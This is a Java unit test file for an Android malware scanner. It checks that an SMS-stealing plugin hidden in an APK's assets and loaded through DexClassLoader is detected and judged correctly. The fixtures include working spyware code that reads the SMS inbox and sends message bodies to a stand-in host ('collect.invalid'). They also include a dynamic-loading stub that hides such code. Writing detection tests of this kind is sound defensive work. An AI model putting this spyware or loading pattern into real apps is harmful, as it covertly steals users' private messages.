package io.unveil.analyzer;

import static io.unveil.fixtures.ApkBuilder.apk;
import static org.assertj.core.api.Assertions.assertThat;

import io.unveil.analyzer.facts.AppFacts;
import io.unveil.analyzer.facts.BlindSpot;
import io.unveil.analyzer.flow.Budget;
import io.unveil.analyzer.judge.Judge;
import io.unveil.analyzer.judge.Rules;
import io.unveil.analyzer.model.ModelLoader;
import io.unveil.analyzer.report.ScanReport;
import io.unveil.analyzer.report.Verdict;
import io.unveil.fixtures.ApkBuilder;
import io.unveil.fixtures.DexCompiler;
import io.unveil.unpacker.ApkBytes;
import io.unveil.unpacker.ApkUnpacker;
import io.unveil.unpacker.Limits;
import io.unveil.unpacker.UnpackedApk;
import io.unveil.unpacker.UnpackedApk.DexEntry;
import io.unveil.unpacker.UnpackedApk.LoadedBy;
import io.unveil.unpacker.UnpackedApk.Payload;
import io.unveil.unpacker.dex.DexCode;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** From bytes to verdict with code in a DEX file that Android does not load. */
class HiddenDexTest {
  private static final String HIDDEN = "assets/plugin.bin";

  static final String PLUGIN =
      """
      package com.example.plugin;
      public class Plugin {
        public void start(android.content.Context context) throws Exception {
          android.database.Cursor all = context.getContentResolver().query(
              android.net.Uri.parse("content://sms/inbox"), null, null, null, null);
          java.net.HttpURLConnection to = (java.net.HttpURLConnection)
              new java.net.URL("https://collect.invalid/sms").openConnection();
          while (all.moveToNext()) {
            to.getOutputStream().write(all.getString(2).getBytes());
          }
        }
      }
      """;

  static final String QUIET =
      """
      package com.example.host;
      public class Main extends android.app.Activity {
        public void onCreate(android.os.Bundle state) { super.onCreate(state); }
      }
      """;

  static final String LOADING =
      """
      package com.example.host;
      public class Main extends android.app.Activity {
        public void onCreate(android.os.Bundle state) {
          super.onCreate(state);
          try {
            Object plugin = new dalvik.system.DexClassLoader(
                getFilesDir() + "/plugin.bin", null, null, getClassLoader())
                .loadClass("com.example.plugin.Plugin").newInstance();
            plugin.getClass().getMethod("start", android.content.Context.class)
                .invoke(plugin, this);
          } catch (Exception e) {
            throw new IllegalStateException(e);
          }
        }
      }
      """;

  static ApkBuilder host(String main) {
    return apk("com.example.host")
        .permission("INTERNET", "READ_SMS")
        .activity(".Main", a -> a.launcher().exported(true))
        .source(main);
  }

  @Test
  void spyInAssets_besideALoader_isFound() throws Exception {
    ScanReport report = judge(facts(host(LOADING), LoadedBy.CODE, HIDDEN));

    assertThat(report.verdict()).as("%s", report.reasons()).isEqualTo(Verdict.MONITORING);
    assertThat(report.findings()).anyMatch(f -> f.code() == 201);
  }

  @Test
  void spyInAssets_withoutALoader_isSuspicious() throws Exception {
    ScanReport report = judge(facts(host(QUIET), LoadedBy.CODE, HIDDEN));

    assertThat(report.verdict()).as("%s", report.reasons()).isEqualTo(Verdict.SUSPICIOUS);
  }

  @Test
  void spyThatNothingLoads_isListed_andProvesNothing() throws Exception {
    AppFacts facts = facts(host(QUIET), LoadedBy.NOTHING, "@4096");

    assertThat(facts.flows())
        .isNotEmpty()
        .allMatch(f -> f.loadedBy() == LoadedBy.NOTHING && f.triggers().isEmpty());
    assertThat(judge(facts).verdict()).isLessThan(Verdict.SUSPICIOUS);
  }

  @Test
  void analysedDex_hidesNothing_andOneThatWasNotReadDoes() throws Exception {
    AppFacts read = facts(host(QUIET), LoadedBy.CODE, HIDDEN);
    AppFacts unread = facts(host(QUIET), LoadedBy.CODE, HIDDEN, Map.of());

    assertThat(spots(read, "hidden-dex"))
        .containsExactly(
            new BlindSpot(
                "hidden-dex", HIDDEN + " is not loaded by Android itself; analysed", false));
    assertThat(spots(unread, "hidden-dex"))
        .containsExactly(
            new BlindSpot(
                "hidden-dex", HIDDEN + " is not loaded by Android itself; not read", true));
  }

  @Test
  void opaqueData_hidesCode_onlyBesideALoader() throws Exception {
    Payload opaque = new Payload("assets/x", Payload.Kind.OPAQUE, 90_000, false, "entropy 7.99");

    assertThat(spots(withPayload(host(QUIET), opaque), "opaque-data"))
        .singleElement()
        .satisfies(s -> assertThat(s.hidesCode()).isFalse());
    assertThat(spots(withPayload(host(LOADING), opaque), "opaque-data"))
        .singleElement()
        .satisfies(s -> assertThat(s.hidesCode()).isTrue());
  }

  private static List<BlindSpot> spots(AppFacts facts, String kind) {
    return facts.blindSpots().stream().filter(s -> s.kind().equals(kind)).toList();
  }

  private static AppFacts facts(ApkBuilder host, LoadedBy loadedBy, String name) throws Exception {
    return facts(host, loadedBy, name, Map.of(name, DexCompiler.dex(PLUGIN)));
  }

  private static AppFacts facts(
      ApkBuilder host, LoadedBy loadedBy, String name, Map<String, byte[]> hidden)
      throws Exception {
    UnpackedApk app = unpacked(host);
    List<DexEntry> entries = new ArrayList<>(app.dexEntries());
    entries.add(new DexEntry(name, List.of(), 0, 0, 1, 1, loadedBy));
    return analyzed(host, with(app, entries, List.of()), hidden);
  }

  private static AppFacts withPayload(ApkBuilder host, Payload payload) throws Exception {
    UnpackedApk app = unpacked(host);
    return analyzed(host, with(app, app.dexEntries(), List.of(payload)), Map.of());
  }

  private static AppFacts analyzed(ApkBuilder host, UnpackedApk app, Map<String, byte[]> hidden) {
    Map<String, byte[]> files = new LinkedHashMap<>(host.dexes());
    files.putAll(hidden);
    return AppAnalyzer.analyze(
        app, DexCode.of(files, Limits.DEFAULT), ModelLoader.bundled(), Budget.DEFAULT);
  }

  private static UnpackedApk unpacked(ApkBuilder host) throws Exception {
    try (ApkBytes bytes = ApkBytes.of(host.build())) {
      return ApkUnpacker.unpack(bytes, Limits.DEFAULT);
    }
  }

  private static UnpackedApk with(UnpackedApk a, List<DexEntry> dex, List<Payload> payloads) {
    return new UnpackedApk(
        a.sha256(),
        a.sizeInBytes(),
        a.installable(),
        a.manifest(),
        a.resources(),
        dex,
        payloads,
        a.nested(),
        a.bundle(),
        a.nativeLibraries(),
        a.signing(),
        a.anomalies(),
        a.anomalyCount(),
        a.entryCount(),
        a.limits(),
        a.incomplete());
  }

  private static ScanReport judge(AppFacts facts) {
    Rules.Edition edition = Rules.bundled();
    return Judge.judge(facts, edition.rules(), edition.policy());
  }
}
